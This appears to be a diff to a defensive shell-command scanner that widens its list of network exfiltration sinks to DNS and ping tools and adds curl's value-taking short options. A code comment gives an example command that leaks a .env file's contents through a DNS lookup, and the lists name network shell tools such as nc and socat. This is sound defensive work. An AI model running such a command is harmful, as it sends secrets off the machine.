@@ -41,7 +41,9 @@ INTERPRETERS = {"python": "-c", "pypy": "-c", "perl": "-e", "ruby": "-e", "node"
                 "lua": "-e", "deno": "eval", "bun": "-e", "osascript": "-e", "tclsh": None, "awk": None}
 NET_FETCH = frozenset("curl wget fetch http https aria2c lynx links w3m".split())
 NET_PIPES = frozenset("nc ncat netcat socat telnet openssl cryptcat".split())
-NET_SINKS = NET_FETCH | NET_PIPES | frozenset("scp sftp rsync ftp ssh rclone mail sendmail mutt".split())
+# A secret in the arguments of a DNS lookup or ping leaves the machine too (`dig $(cat .env).x.io`).
+NET_SINKS = NET_FETCH | NET_PIPES | frozenset("scp sftp rsync ftp ssh rclone mail sendmail mutt dig nslookup host drill "
+                                              "ping ping6 traceroute".split())
 
 # Programs that only read and print: no finding. Anything not known here or to a rule is
 # `review` (an unknown program may change anything).
@@ -268,5 +270,5 @@ LONG_OPTIONS: dict[str, tuple] = {k: tuple((_COREUTILS_COMMON + v).split()) for 
     "setfacl": "modify modify-file remove remove-file remove-all remove-default set set-file recursive",
 }.items()}
 # Short options that take a value: the rest of the cluster or the next word is that value.
-SHORT_VALUES = {"mv": "tS", "cp": "tS", "ln": "tS", "install": "tSgmo", "tar": "CfbTXIFgKLNV",
+SHORT_VALUES = {"curl": "AbcCdDeEFHKmoPQrTuUwxXyYzt", "mv": "tS", "cp": "tS", "ln": "tS", "install": "tSgmo", "tar": "CfbTXIFgKLNV",
                 "unzip": "dx", "shred": "nsu", "truncate": "sr", "chmod": "", "chown": "", "setfacl": "mMxX"}
